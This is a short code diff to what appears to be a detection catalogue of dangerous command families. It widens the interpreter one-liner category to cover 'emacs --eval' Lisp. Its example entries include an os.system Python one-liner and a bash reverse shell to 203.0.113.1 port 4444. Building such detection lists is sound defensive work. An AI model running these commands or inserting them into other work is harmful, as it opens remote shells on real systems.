@@ -144,7 +144,7 @@ export const COMMAND_FAMILIES = [
     id: "interpreter_primitives",
     title: "Interpreter one-liners with process or network primitives",
     covers:
-      "python/perl/ruby/node/php/awk/lua one-liners that spawn processes or open sockets, also when the primitive is reached by name (getattr, __import__), and reverse shells (/dev/tcp, nc -e, socat exec, a shell wired to a network tool).",
+      "python/perl/ruby/node/php/awk/lua one-liners and emacs --eval Lisp that spawn processes or open sockets, also when the primitive is reached by name (getattr, __import__), and reverse shells (/dev/tcp, nc -e, socat exec, a shell wired to a network tool).",
     examples: [
       "python3 -c 'import os; os.system(\"id\")'",
       "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
